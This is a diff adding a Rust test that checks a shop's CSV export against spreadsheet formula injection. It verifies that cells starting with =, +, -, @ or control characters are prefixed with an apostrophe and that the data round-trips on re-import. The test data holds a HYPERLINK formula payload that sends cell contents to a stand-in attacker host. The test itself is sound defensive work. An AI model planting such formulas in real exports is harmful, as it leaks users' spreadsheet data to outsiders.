@@ -36,6 +36,53 @@ on_both! {
         assert!(server::check::run(&world.database).await.unwrap().is_healthy());
     }
 
+    async fn no_exported_cell_is_a_formula_and_each_reads_back_as_it_was(world) {
+        // A text of the shop and its cell; other programs write the text itself, except where blanks would be trimmed.
+        let pairs = [
+            ("=HYPERLINK(\"https://evil.example/?\"&A2)", "'=HYPERLINK(\"https://evil.example/?\"&A2)"),
+            ("+1 pot", "'+1 pot"), ("-pot", "'-pot"), ("@pot", "'@pot"), ("＝pot", "'＝pot"),
+            ("\tpot", "'\tpot"), ("\rpot", "'\rpot"), ("'=pot", "''=pot"), ("''-pot", "'''-pot"), ("'pot", "'pot"), ("pot", "pot"),
+        ];
+        let mut sheet = csv::Writer::from_writer(Vec::new());
+        sheet.write_record(["Handle", "Title", "Vendor", "Tags", "Option1 Name", "Option1 Value", "Variant SKU", "Variant Price"]).unwrap();
+        for (number, (text, guarded)) in pairs.into_iter().enumerate() {
+            let cell = if text.starts_with(['\t', '\r', '\'']) { guarded } else { text };
+            sheet.write_record([&format!("thing-{number:02}"), cell, cell, cell, cell, cell, &format!("-{number:02}"), "12.50"]).unwrap();
+        }
+        let report = import_text(&world, &sheet.into_inner().unwrap()).await;
+        assert!(report.errors.is_empty(), "{report}");
+        let view = app::catalog::model::View { locale: app::kernel::Locale::En, currency: app::kernel::Currency::Usd };
+        let pages = async || {
+            let mut pages = Vec::new();
+            for number in 0..pairs.len() {
+                let slug = Slug::parse(&format!("thing-{number:02}")).unwrap();
+                pages.push(service(&world).product(view, &slug).await.unwrap());
+            }
+            pages
+        };
+        let before = pages().await;
+        for ((text, _), page) in pairs.iter().zip(&before) {
+            assert_eq!((page.title.as_str(), page.options[0].values[0].1.as_str()), (*text, *text));
+        }
+        let write = async || {
+            let mut text = Vec::new();
+            assert_eq!(export(&world.database, "https://shop.example", &mut text).await.unwrap(), pairs.len());
+            text
+        };
+        let written = write().await;
+        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(written.as_slice()).into_records().collect::<Result<_, _>>().unwrap();
+        for (number, ((_, guarded), row)) in pairs.iter().zip(&rows).enumerate() {
+            assert_eq!([&row[1], &row[3], &row[7], &row[8]], [*guarded; 4], "title, vendor, option and value");
+            assert_eq!((&row[0], &row[13], &row[16]), (format!("thing-{number:02}").as_str(), format!("'-{number:02}").as_str(), "12.50"));
+            let formula = row.iter().find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']));
+            assert_eq!(formula, None);
+        }
+        let report = import_text(&world, &written).await;
+        assert!(report.errors.is_empty(), "{report}");
+        assert_eq!(pages().await, before);
+        assert_eq!(write().await, written);
+    }
+
     async fn another_shop_reads_it_with_both_languages_prices_and_stock(world) {
         let first = World::new(Backend::Sqlite).await;
         first.with_demo().await;
